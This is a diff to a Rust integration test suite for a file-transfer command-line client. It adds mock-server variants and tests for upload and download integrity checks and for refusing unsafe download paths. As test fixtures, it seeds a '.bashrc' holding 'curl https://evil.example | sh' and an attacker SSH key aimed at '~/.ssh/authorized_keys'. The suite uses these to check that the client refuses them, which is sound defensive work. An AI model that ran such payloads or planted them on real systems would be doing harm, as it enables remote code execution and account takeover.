@@ -6,6 +6,8 @@
 mod common;
 
 use std::collections::{BTreeMap, HashMap};
+use std::path::Path;
+use std::process::{Command, Output};
 use std::sync::atomic::{AtomicU64, Ordering};
 use std::sync::{Arc, Mutex};
 
@@ -15,7 +17,9 @@ use axum::extract::{DefaultBodyLimit, Multipart, Path as AxPath, Query, State};
 use axum::http::{HeaderMap, StatusCode, header};
 use axum::response::{IntoResponse, Response};
 use axum::routing::{get, post};
-use filedeck::api::{ApiError, Client, FileEntry, Progress, UploadRequest, partial_paths};
+use filedeck::api::{
+    ApiError, Client, FileEntry, Progress, UploadRequest, Uploaded, partial_paths,
+};
 use serde_json::{Value, json};
 use tokio_util::sync::CancellationToken;
 
@@ -53,8 +57,19 @@ struct Flavor {
     deny_gets: bool,
     /// Absent optional fields are sent as JSON `null` rather than left out.
     nulls: bool,
-    /// The PUT stores the bytes with one flipped, and answers their (honest) MD5 ETag.
+    /// The PUT (and the multipart upload) stores the bytes with one flipped, and answers
+    /// their (honest) MD5 ETag.
     corrupt_put: bool,
+    /// List, upload and confirm answers leave `size` out.
+    no_sizes: bool,
+    /// The confirm answers `{"key": …}` alone, as an opaque-key service does.
+    confirm_key_only: bool,
+    /// Objects are stored with SSE-KMS: GETs and PUTs answer
+    /// `x-amz-server-side-encryption: aws:kms` and an `ETag` of 32 hex digits that is not
+    /// the MD5 of the bytes.
+    kms: bool,
+    /// The list route ignores `prefix` and lists the whole workspace.
+    ignore_prefix: bool,
 }
 
 impl Default for Flavor {
@@ -69,6 +84,36 @@ impl Default for Flavor {
             deny_gets: false,
             nulls: false,
             corrupt_put: false,
+            no_sizes: false,
+            confirm_key_only: false,
+            kms: false,
+            ignore_prefix: false,
+        }
+    }
+}
+
+impl Flavor {
+    /// The `ETag` of stored bytes: their MD5, or under KMS an opaque 32-hex value.
+    fn etag(&self, stored: &[u8]) -> String {
+        if self.kms {
+            let mut salted = b"kms data key ".to_vec();
+            salted.extend_from_slice(stored);
+            format!("\"{}\"", md5_hex(&salted))
+        } else {
+            format!("\"{}\"", md5_hex(stored))
+        }
+    }
+
+    /// The headers every byte answer carries besides the `ETag`.
+    fn sse_headers(&self, h: &mut HeaderMap) {
+        if self.kms {
+            h.insert("x-amz-server-side-encryption", "aws:kms".parse().unwrap());
+            h.insert(
+                "x-amz-server-side-encryption-aws-kms-key-id",
+                "arn:aws:kms:eu-west-1:111122223333:key/0000"
+                    .parse()
+                    .unwrap(),
+            );
         }
     }
 }
@@ -211,6 +256,30 @@ impl Mock {
         self.insert(None, folder, name, Arc::new(bytes)).unwrap()
     }
 
+    /// Store `bytes` under `key` as `folder` + `name` exactly as given, replacing nothing
+    /// and checking nothing: what a hostile server, or one holding two files of one
+    /// display path, lists.
+    fn seed_raw(&self, key: &str, folder: &str, name: &str, bytes: Vec<u8>) {
+        self.objects.lock().unwrap().insert(
+            key.to_string(),
+            Obj {
+                path: folder.to_string(),
+                name: name.to_string(),
+                bytes: Arc::new(bytes),
+            },
+        );
+    }
+
+    /// Every stored object as `(key, path + name, bytes)`, sorted by key.
+    fn stored(&self) -> Vec<(String, String, Arc<Vec<u8>>)> {
+        self.objects
+            .lock()
+            .unwrap()
+            .iter()
+            .map(|(k, o)| (k.clone(), format!("{}{}", o.path, o.name), o.bytes.clone()))
+            .collect()
+    }
+
     fn remove_display(&self, display: &str) {
         self.objects
             .lock()
@@ -221,21 +290,19 @@ impl Mock {
 
 /// A file object as this server describes it: opaque key, unknown fields, optional fields
 /// present only on every other entry, `path` omitted at the root and without its trailing
-/// `/` on odd entries, never a `sha256` or `etag`.
-fn entry_json(i: usize, key: &str, o: &Obj) -> Value {
-    entry_json_with(i, key, o, false)
-}
-
-/// [`entry_json`], with `nulls`: every optional field it leaves out is `null` instead.
-fn entry_json_with(i: usize, key: &str, o: &Obj, nulls: bool) -> Value {
+/// `/` on odd entries, never a `sha256` or `etag`. With `no_sizes` it has no `size`
+/// either; with `nulls`, every optional field it leaves out is `null` instead.
+fn entry_json(i: usize, key: &str, o: &Obj, flavor: &Flavor) -> Value {
     let mut e = json!({
         "key": key,
         "name": o.name,
-        "size": o.bytes.len(),
         "storage_class": "STANDARD",
         "owner": {"id": "u-1", "display": "someone"},
         "versions": [1, 2, 3],
     });
+    if !flavor.no_sizes {
+        e["size"] = json!(o.bytes.len());
+    }
     if !o.path.is_empty() {
         let path = if !i.is_multiple_of(2) {
             o.path.trim_end_matches('/').to_string()
@@ -249,8 +316,9 @@ fn entry_json_with(i: usize, key: &str, o: &Obj, nulls: bool) -> Value {
         e["created_at"] = json!("2026-01-02T03:04:05Z");
         e["description"] = Value::Null;
     }
-    if nulls {
+    if flavor.nulls {
         for field in [
+            "size",
             "path",
             "description",
             "content_type",
@@ -329,14 +397,14 @@ async fn list(State(m): State<Arc<Mock>>, headers: HeaderMap, Query(q): Q) -> Re
     let mut rows: Vec<(String, &String, &Obj)> = objects
         .iter()
         .map(|(k, o)| (format!("{}{}", o.path, o.name), k, o))
-        .filter(|(d, _, _)| d.starts_with(prefix))
+        .filter(|(d, _, _)| m.flavor.ignore_prefix || d.starts_with(prefix))
         .collect();
     rows.sort_by(|a, b| a.0.cmp(&b.0));
     rows.truncate(limit);
     let items: Vec<Value> = rows
         .iter()
         .enumerate()
-        .map(|(i, (_, k, o))| entry_json_with(i, k, o, m.flavor.nulls))
+        .map(|(i, (_, k, o))| entry_json(i, k, o, &m.flavor))
         .collect();
     axum::Json(Value::Array(items)).into_response()
 }
@@ -391,7 +459,13 @@ async fn upload(State(m): State<Arc<Mock>>, headers: HeaderMap, mut form: Multip
             Some("file") => {
                 let name = field.file_name().unwrap_or_default().to_string();
                 match field.bytes().await {
-                    Ok(b) => file = Some((name, b.to_vec())),
+                    Ok(b) => {
+                        let mut stored = b.to_vec();
+                        if m.flavor.corrupt_put && !stored.is_empty() {
+                            stored[0] ^= 0x01;
+                        }
+                        file = Some((name, stored));
+                    }
                     Err(e) => return (StatusCode::BAD_REQUEST, e.to_string()).into_response(),
                 }
             }
@@ -412,7 +486,7 @@ async fn upload(State(m): State<Arc<Mock>>, headers: HeaderMap, mut form: Multip
     match m.insert(None, &folder, &name, Arc::new(bytes)) {
         Ok(key) => {
             let objects = m.objects.lock().unwrap();
-            let mut e = entry_json(1, &key, &objects[&key]);
+            let mut e = entry_json(1, &key, &objects[&key], &m.flavor);
             e["uploaded"] = json!(true);
             // 200 where the contract says 201.
             (StatusCode::OK, axum::Json(e)).into_response()
@@ -488,9 +562,10 @@ async fn confirm(State(m): State<Arc<Mock>>, headers: HeaderMap, body: Bytes) ->
             .into_response();
     }
     match m.insert(Some(key.clone()), &path, &name, bytes) {
+        Ok(key) if m.flavor.confirm_key_only => axum::Json(json!({"key": key})).into_response(),
         Ok(key) => {
             let objects = m.objects.lock().unwrap();
-            axum::Json(entry_json(0, &key, &objects[&key])).into_response()
+            axum::Json(entry_json(0, &key, &objects[&key], &m.flavor)).into_response()
         }
         Err(msg) => (StatusCode::CONFLICT, msg).into_response(),
     }
@@ -543,7 +618,7 @@ async fn get_bytes(
             "The specified key does not exist.",
         );
     };
-    let etag = format!("\"{}\"", md5_hex(&stored));
+    let etag = m.flavor.etag(&stored);
     let mut bytes = (*stored).clone();
     if m.flavor.corrupt_get && !bytes.is_empty() {
         let mid = bytes.len() / 2;
@@ -586,6 +661,7 @@ async fn get_bytes(
     h.insert(header::CONTENT_LENGTH, slice.len().into());
     h.insert(header::ACCEPT_RANGES, "bytes".parse().unwrap());
     h.insert(header::CONTENT_TYPE, "binary/octet-stream".parse().unwrap());
+    m.flavor.sse_headers(h);
     if status == StatusCode::PARTIAL_CONTENT {
         h.insert(
             header::CONTENT_RANGE,
@@ -672,7 +748,7 @@ async fn put_bytes(
     if m.flavor.corrupt_put && !stored.is_empty() {
         stored[0] ^= 0x01;
     }
-    let etag = format!("\"{}\"", md5_hex(&stored));
+    let etag = m.flavor.etag(&stored);
     match m.pending.lock().unwrap().get_mut(&key) {
         Some(p) => p.bytes = Some(Arc::new(stored)),
         None => {
@@ -683,7 +759,9 @@ async fn put_bytes(
             );
         }
     }
-    (StatusCode::OK, [(header::ETAG, etag)]).into_response()
+    let mut resp = (StatusCode::OK, [(header::ETAG, etag)]).into_response();
+    m.flavor.sse_headers(resp.headers_mut());
+    resp
 }
 
 // ---------------------------------------------------------------------------------------
@@ -694,11 +772,12 @@ fn client(run: &Running) -> Client {
     common::client(&run.api, TOKEN, |_| {})
 }
 
-async fn upload_file(
-    c: &Client,
-    local: &std::path::Path,
-    folder: &str,
-) -> Result<FileEntry, ApiError> {
+async fn upload_file(c: &Client, local: &Path, folder: &str) -> Result<FileEntry, ApiError> {
+    upload_full(c, local, folder).await.map(|u| u.entry)
+}
+
+/// An upload with all it reports: the entry and why it is unverified, if it is.
+async fn upload_full(c: &Client, local: &Path, folder: &str) -> Result<Uploaded, ApiError> {
     let req = UploadRequest {
         workspace: WS,
         local,
@@ -708,7 +787,6 @@ async fn upload_file(
     };
     c.upload(&req, &Progress::new(), &CancellationToken::new())
         .await
-        .map(|u| u.entry)
 }
 
 async fn listed(c: &Client, display: &str) -> FileEntry {
@@ -990,23 +1068,40 @@ async fn large_flow_with_snake_case_fields_and_an_expired_put() {
     assert_eq!(sha256_hex(&got), sha256_hex(&bytes));
 }
 
-/// Without a `sha256` in the confirm's answer, the PUT's MD5 `ETag` is checked against the
-/// local file: bytes stored wrong are an integrity error.
+/// Without a `sha256` in the answer, the MD5 the `ETag` stands for (the PUT's, or the
+/// multipart upload's read back by key) is checked against the local file: bytes stored
+/// wrong are an integrity error. Judged by an `ETag` alone, the mismatch is reported and
+/// the server's copy is left where it is, never deleted ("Tolerate" in files-api.md).
 #[tokio::test]
-async fn a_put_stored_wrong_fails_the_md5_etag_check() {
+async fn a_copy_stored_wrong_fails_the_md5_etag_check_and_is_left_in_place() {
     let run = Mock::start(Flavor {
         corrupt_put: true,
         ..Flavor::default()
     })
     .await;
-    let c = common::client(&run.api, TOKEN, |cfg| cfg.large_threshold = 1024);
     let dir = tempfile::tempdir().unwrap();
-    let local = write_file(dir.path(), "w.bin", &pattern(50_000, 7));
-    let err = upload_file(&c, &local, "").await.unwrap_err();
-    assert!(
-        matches!(&err, ApiError::Integrity(m) if m.contains("MD5")),
-        "{err:?}"
-    );
+    for (threshold, name) in [(1024, "w.bin"), (1 << 20, "m.bin")] {
+        let c = common::client(&run.api, TOKEN, |cfg| cfg.large_threshold = threshold);
+        let bytes = pattern(50_000, 7);
+        let local = write_file(dir.path(), name, &bytes);
+        let err = upload_file(&c, &local, "").await.unwrap_err();
+        let key = run
+            .mock
+            .stored()
+            .into_iter()
+            .find(|(_, display, _)| display == name)
+            .map(|(key, _, stored)| {
+                assert_ne!(md5_hex(&stored), md5_hex(&bytes), "stored wrong");
+                key
+            });
+        let key = key.unwrap_or_else(|| panic!("{name}: the server's copy was deleted: {err:?}"));
+        assert!(
+            matches!(&err, ApiError::Integrity(m)
+                if m.contains("MD5") && m.contains("left in place") && m.contains(&key)),
+            "{name}: {err:?}"
+        );
+        assert_eq!(listed(&c, name).await.key, key, "still listed");
+    }
 }
 
 /// The large-flow test above means something only if the byte server really refuses what S3
@@ -1153,5 +1248,446 @@ async fn optional_fields_as_null_are_tolerated() {
         page.files
             .iter()
             .all(|f| f.sha256.is_none() && f.etag.is_none())
+    );
+}
+
+// ---------------------------------------------------------------------------------------
+// Absent sizes, KMS ETags, and the command line against this server
+// ---------------------------------------------------------------------------------------
+
+/// The first bug: a large upload to a service whose confirm answers `{"key"}`
+/// alone and whose answers carry no size. The size is read off the stored bytes (a
+/// one-byte ranged GET by key), the display path is the one asked for (not the opaque
+/// key), and the PUT's MD5 `ETag` verifies the bytes.
+#[tokio::test]
+async fn large_upload_confirmed_by_key_alone_without_sizes() {
+    let run = Mock::start(Flavor {
+        no_sizes: true,
+        confirm_key_only: true,
+        ..Flavor::default()
+    })
+    .await;
+    let c = common::client(&run.api, TOKEN, |cfg| cfg.large_threshold = 1_000_000);
+    let dir = tempfile::tempdir().unwrap();
+    let bytes = pattern(3_000_000, 11);
+    let local = write_file(dir.path(), "big.bam", &bytes);
+    let up = upload_full(&c, &local, "bam/").await.expect("large upload");
+    assert_eq!(up.entry.display_key(), "bam/big.bam");
+    assert!(up.entry.key.starts_with("obj-"), "{:?}", up.entry);
+    assert_eq!(up.entry.size, Some(3_000_000), "from the byte GET");
+    assert_eq!(
+        up.unverified, None,
+        "the PUT's ETag is the MD5 of the bytes"
+    );
+    {
+        let seen = run.mock.seen.lock().unwrap();
+        assert_eq!(seen.upload_url, 1);
+        assert_eq!(seen.puts, 1);
+        assert_eq!(
+            seen.get_headers,
+            vec![(Some("bytes=0-0".to_string()), None)],
+            "one ranged byte, not the file"
+        );
+    }
+    let stored = run.mock.stored();
+    assert_eq!(stored.len(), 1, "one copy");
+    assert_eq!(
+        (stored[0].0.as_str(), stored[0].1.as_str()),
+        (up.entry.key.as_str(), "bam/big.bam")
+    );
+    assert_eq!(md5_hex(&stored[0].2), md5_hex(&bytes));
+    let found = listed(&c, "bam/big.bam").await;
+    assert_eq!((found.key, found.size), (up.entry.key, None));
+}
+
+/// A listing without sizes: unknown, never 0, and a download still checks what it gets
+/// (the length against the answer's `Content-Length`, the bytes against the MD5 `ETag`).
+#[tokio::test]
+async fn a_listing_without_sizes_downloads_verified() {
+    let run = Mock::start(Flavor {
+        no_sizes: true,
+        ..Flavor::default()
+    })
+    .await;
+    let bytes = pattern(250_001, 12);
+    run.mock.seed("raw/nosize.bin", bytes.clone());
+    let c = client(&run);
+    let entry = listed(&c, "raw/nosize.bin").await;
+    assert_eq!(entry.size, None, "absent is unknown, not 0");
+    let dir = tempfile::tempdir().unwrap();
+    let (target, got, _) = common::download(&c, WS, &entry, dir.path())
+        .await
+        .expect("download without a listed size");
+    assert_eq!(sha256_hex(&got), sha256_hex(&bytes));
+    let (part, meta) = partial_paths(&target);
+    assert!(!part.exists() && !meta.exists());
+}
+
+/// The other half of the test above: without a listed size or hash, bytes changed in
+/// transit are still caught (by the MD5 the `ETag` stands for).
+#[tokio::test]
+async fn a_listing_without_sizes_still_catches_corrupted_bytes() {
+    let run = Mock::start(Flavor {
+        no_sizes: true,
+        corrupt_get: true,
+        ..Flavor::default()
+    })
+    .await;
+    run.mock.seed("raw/bad.bin", pattern(80_000, 13));
+    let c = client(&run);
+    let entry = listed(&c, "raw/bad.bin").await;
+    let dir = tempfile::tempdir().unwrap();
+    let err = common::download(&c, WS, &entry, dir.path())
+        .await
+        .expect_err("corrupted bytes must not verify");
+    assert!(
+        matches!(&err, ApiError::Integrity(m) if m.contains("MD5")),
+        "{err:?}"
+    );
+    assert!(!dir.path().join("out").join("bad.bin").exists());
+}
+
+/// Under SSE-KMS the `ETag` looks like an MD5 but is not one: an upload without a
+/// `sha256` is reported unverified (not failed, not deleted), by both routes.
+#[tokio::test]
+async fn kms_uploads_are_unverified_and_kept() {
+    let run = Mock::start(Flavor {
+        kms: true,
+        ..Flavor::default()
+    })
+    .await;
+    let dir = tempfile::tempdir().unwrap();
+    for (threshold, name) in [(1 << 20, "small.vcf"), (1024, "large.vcf")] {
+        let c = common::client(&run.api, TOKEN, |cfg| cfg.large_threshold = threshold);
+        let bytes = pattern(40_000, 14);
+        let local = write_file(dir.path(), name, &bytes);
+        let up = upload_full(&c, &local, "enc/")
+            .await
+            .unwrap_or_else(|e| panic!("{name}: a KMS ETag is no MD5 to compare: {e:?}"));
+        assert_eq!(up.entry.size, Some(bytes.len() as u64));
+        let why = up.unverified.as_deref().unwrap_or_default();
+        assert!(why.contains("not verified"), "{name}: {:?}", up.unverified);
+        let found = listed(&c, &format!("enc/{name}")).await;
+        assert_eq!(found.key, up.entry.key, "{name}: the copy stays");
+        let stored = run
+            .mock
+            .stored()
+            .into_iter()
+            .find(|(k, _, _)| *k == up.entry.key)
+            .map(|(_, _, b)| b);
+        assert_eq!(stored.as_deref(), Some(&bytes), "{name}");
+    }
+}
+
+/// A download under SSE-KMS is checked by its size alone (listed, or else announced), and
+/// succeeds: the `ETag` is not compared with the bytes' MD5.
+#[tokio::test]
+async fn kms_downloads_verify_by_size_alone() {
+    for no_sizes in [false, true] {
+        let run = Mock::start(Flavor {
+            kms: true,
+            no_sizes,
+            ..Flavor::default()
+        })
+        .await;
+        let bytes = pattern(123_456, 15);
+        run.mock.seed("enc/k.bin", bytes.clone());
+        let c = client(&run);
+        let entry = listed(&c, "enc/k.bin").await;
+        assert_eq!(entry.size.is_none(), no_sizes);
+        let dir = tempfile::tempdir().unwrap();
+        let (_, got, _) = common::download(&c, WS, &entry, dir.path())
+            .await
+            .unwrap_or_else(|e| panic!("no_sizes={no_sizes}: {e:?}"));
+        assert_eq!(sha256_hex(&got), sha256_hex(&bytes));
+    }
+}
+
+const BIN: &str = env!("CARGO_BIN_EXE_filedeck");
+
+/// Run the real binary against `run`, with `home` as its `HOME` (its log goes elsewhere),
+/// off the runtime's thread so the mock keeps serving.
+async fn filedeck(run: &Running, home: &Path, args: &[&str]) -> Output {
+    let state = tempfile::tempdir().unwrap();
+    let mut cmd = Command::new(BIN);
+    cmd.args(args)
+        .env("FILEDECK_ENDPOINT", &run.api)
+        .env("FILEDECK_API_KEY", TOKEN)
+        .env("HOME", home)
+        .env("XDG_STATE_HOME", state.path());
+    for var in [
+        "FILEDECK_LARGE_UPLOAD_THRESHOLD",
+        "FILEDECK_STALL_TIMEOUT",
+        "HTTP_PROXY",
+        "http_proxy",
+        "ALL_PROXY",
+        "all_proxy",
+    ] {
+        cmd.env_remove(var);
+    }
+    let out = tokio::task::spawn_blocking(move || cmd.output().unwrap())
+        .await
+        .unwrap();
+    drop(state);
+    out
+}
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+fn s(p: &Path) -> &str {
+    p.to_str().unwrap()
+}
+
+/// Everything under `root`, directories included (`None`), with each file's bytes.
+fn snapshot(root: &Path) -> Vec<(String, Option<Vec<u8>>)> {
+    fn walk(root: &Path, dir: &Path, out: &mut Vec<(String, Option<Vec<u8>>)>) {
+        for e in std::fs::read_dir(dir).unwrap() {
+            let p = e.unwrap().path();
+            let rel = p.strip_prefix(root).unwrap().to_string_lossy().into_owned();
+            if p.is_dir() {
+                out.push((rel, None));
+                walk(root, &p, out);
+            } else {
+                out.push((rel, Some(std::fs::read(&p).unwrap())));
+            }
+        }
+    }
+    let mut out = Vec::new();
+    walk(root, root, &mut out);
+    out.sort();
+    out
+}
+
+/// `ls` shows an absent size as unknown: `?` in the table, `null` in `--json`.
+#[tokio::test]
+async fn ls_shows_absent_sizes_as_unknown() {
+    let home = tempfile::tempdir().unwrap();
+    for no_sizes in [true, false] {
+        let run = Mock::start(Flavor {
+            no_sizes,
+            ..Flavor::default()
+        })
+        .await;
+        run.mock.seed("raw/a.vcf", b"12345".to_vec());
+        run.mock.seed("top.txt", b"hello world".to_vec());
+        let o = filedeck(&run, home.path(), &["ls", "-w", WS]).await;
+        assert!(o.status.success(), "{}", text(&o.stderr));
+        let out = text(&o.stdout);
+        let sizes: Vec<(String, String)> = out
+            .lines()
+            .map(|l| {
+                let size = l.split("  ").map(str::trim).find(|t| !t.is_empty());
+                let path = l.rsplit("  ").next().unwrap_or_default();
+                (size.unwrap_or_default().to_string(), path.to_string())
+            })
+            .collect();
+        let want: Vec<(String, String)> = if no_sizes {
+            vec![
+                ("?".into(), "raw/a.vcf".into()),
+                ("?".into(), "top.txt".into()),
+            ]
+        } else {
+            vec![
+                ("5 B".into(), "raw/a.vcf".into()),
+                ("11 B".into(), "top.txt".into()),
+            ]
+        };
+        assert_eq!(sizes, want, "{out}");
+
+        let o = filedeck(&run, home.path(), &["ls", "-w", WS, "--json"]).await;
+        assert!(o.status.success(), "{}", text(&o.stderr));
+        let files: Vec<Value> = serde_json::from_slice(&o.stdout).unwrap();
+        // `Some(Null)`: the field is there, as `null`.
+        let sizes: Vec<Option<Value>> = files.iter().map(|f| f.get("size").cloned()).collect();
+        let want = if no_sizes {
+            vec![Some(Value::Null); 2]
+        } else {
+            vec![Some(json!(5)), Some(json!(11))]
+        };
+        assert_eq!(sizes, want, "{}", text(&o.stdout));
+    }
+}
+
+/// A listed `name` that holds a path never picks where a file lands: `get` by the key
+/// refuses it, says why, and writes nothing — not into the destination, not into a
+/// destination that is `HOME` itself.
+#[tokio::test]
+async fn get_refuses_a_listed_name_with_a_path() {
+    let run = Mock::start(Flavor::default()).await;
+    run.mock.seed_raw(
+        "report.csv",
+        "",
+        ".ssh/authorized_keys",
+        b"ssh-ed25519 AAAA attacker\n".to_vec(),
+    );
+    let home = tempfile::tempdir().unwrap();
+    std::fs::create_dir(home.path().join(".ssh")).unwrap();
+    std::fs::write(
+        home.path().join(".ssh/authorized_keys"),
+        b"ssh-ed25519 AAAA mine\n",
+    )
+    .unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let (home_before, dir_before) = (snapshot(home.path()), snapshot(dir.path()));
+    for to in [dir.path(), home.path()] {
+        let o = filedeck(
+            &run,
+            home.path(),
+            &["get", "-w", WS, "report.csv", "--to", s(to)],
+        )
+        .await;
+        let e = text(&o.stderr);
+        assert!(!o.status.success(), "--to {to:?}: {e}");
+        assert!(
+            e.contains("report.csv") && e.contains("path separator"),
+            "--to {to:?}: {e}"
+        );
+        assert_eq!(snapshot(home.path()), home_before, "--to {to:?}");
+        assert_eq!(snapshot(dir.path()), dir_before, "--to {to:?}");
+    }
+}
+
+/// A dotfile named directly is refused (it would land hidden, e.g. `~/.bashrc`); inside a
+/// folder the user asked for, a dotfile lands at its place in that folder.
+#[tokio::test]
+async fn get_refuses_a_dotfile_named_directly_but_keeps_one_inside_a_folder() {
+    let run = Mock::start(Flavor::default()).await;
+    run.mock
+        .seed(".bashrc", b"curl https://evil.example | sh\n".to_vec());
+    run.mock.seed("raw/.hidden", b"hidden\n".to_vec());
+    run.mock.seed("raw/a.txt", b"a\n".to_vec());
+    let home = tempfile::tempdir().unwrap();
+    std::fs::write(home.path().join(".bashrc"), b"# mine\n").unwrap();
+    let before = snapshot(home.path());
+    let o = filedeck(
+        &run,
+        home.path(),
+        &["get", "-w", WS, ".bashrc", "--to", s(home.path())],
+    )
+    .await;
+    let e = text(&o.stderr);
+    assert!(!o.status.success(), "{e}");
+    assert!(e.contains(".bashrc") && e.contains("dotfile"), "{e}");
+    assert_eq!(snapshot(home.path()), before);
+
+    let dir = tempfile::tempdir().unwrap();
+    let o = filedeck(
+        &run,
+        home.path(),
+        &["get", "-w", WS, "raw/", "--to", s(dir.path())],
+    )
+    .await;
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(
+        snapshot(dir.path()),
+        vec![
+            ("raw".to_string(), None),
+            ("raw/.hidden".to_string(), Some(b"hidden\n".to_vec())),
+            ("raw/a.txt".to_string(), Some(b"a\n".to_vec())),
+        ]
+    );
+    assert_eq!(snapshot(home.path()), before);
+}
+
+/// A service that ignores `prefix` answers a folder's listing with the whole workspace:
+/// `get raw/` still takes only what is under `raw/`, so a file listed as
+/// `.ssh/authorized_keys` does not land at `~/.ssh/authorized_keys` when the destination
+/// is `HOME`.
+#[tokio::test]
+async fn a_folder_download_takes_only_the_folder_whatever_the_listing_holds() {
+    let run = Mock::start(Flavor {
+        ignore_prefix: true,
+        ..Flavor::default()
+    })
+    .await;
+    run.mock.seed(
+        ".ssh/authorized_keys",
+        b"ssh-ed25519 AAAA attacker\n".to_vec(),
+    );
+    run.mock.seed("raw/a.txt", b"a\n".to_vec());
+    let home = tempfile::tempdir().unwrap();
+    std::fs::create_dir(home.path().join(".ssh")).unwrap();
+    std::fs::write(
+        home.path().join(".ssh/authorized_keys"),
+        b"ssh-ed25519 AAAA mine\n",
+    )
+    .unwrap();
+    let mut want = snapshot(home.path());
+    let o = filedeck(
+        &run,
+        home.path(),
+        &["get", "-w", WS, "raw/", "--to", s(home.path())],
+    )
+    .await;
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    want.push(("raw".into(), None));
+    want.push(("raw/a.txt".into(), Some(b"a\n".to_vec())));
+    want.sort();
+    assert_eq!(snapshot(home.path()), want);
+}
+
+/// `get` takes a key exactly as `ls --json` prints it (opaque here), or a display path; a
+/// display path naming two files is a usage error naming both keys.
+#[tokio::test]
+async fn get_by_opaque_key_or_display_path() {
+    let run = Mock::start(Flavor::default()).await;
+    let vcf = b"##fileformat=VCFv4.2\n".to_vec();
+    run.mock.seed("raw/sample.vcf", vcf.clone());
+    run.mock.seed("notes.txt", b"notes".to_vec());
+    let home = tempfile::tempdir().unwrap();
+    let o = filedeck(&run, home.path(), &["ls", "-w", WS, "--json"]).await;
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    let files: Vec<Value> = serde_json::from_slice(&o.stdout).unwrap();
+    let key = files
+        .iter()
+        .find(|f| f["name"] == "sample.vcf")
+        .and_then(|f| f["key"].as_str())
+        .expect("listed")
+        .to_string();
+    assert!(key.starts_with("obj-"), "{key}");
+
+    for arg in [key.as_str(), "raw/sample.vcf"] {
+        let dir = tempfile::tempdir().unwrap();
+        let o = filedeck(
+            &run,
+            home.path(),
+            &["get", "-w", WS, arg, "--to", s(dir.path())],
+        )
+        .await;
+        assert!(o.status.success(), "{arg}: {}", text(&o.stderr));
+        assert_eq!(
+            snapshot(dir.path()),
+            vec![("sample.vcf".to_string(), Some(vcf.clone()))],
+            "{arg}"
+        );
+    }
+
+    run.mock
+        .seed_raw("obj-dup-1", "dup/", "same.txt", b"one".to_vec());
+    run.mock
+        .seed_raw("obj-dup-2", "dup/", "same.txt", b"two".to_vec());
+    let dir = tempfile::tempdir().unwrap();
+    let o = filedeck(
+        &run,
+        home.path(),
+        &["get", "-w", WS, "dup/same.txt", "--to", s(dir.path())],
+    )
+    .await;
+    let e = text(&o.stderr);
+    assert_eq!(o.status.code(), Some(2), "{e}");
+    assert!(e.contains("obj-dup-1") && e.contains("obj-dup-2"), "{e}");
+    assert!(snapshot(dir.path()).is_empty());
+    let o = filedeck(
+        &run,
+        home.path(),
+        &["get", "-w", WS, "obj-dup-2", "--to", s(dir.path())],
+    )
+    .await;
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(
+        snapshot(dir.path()),
+        vec![("same.txt".to_string(), Some(b"two".to_vec()))]
     );
 }
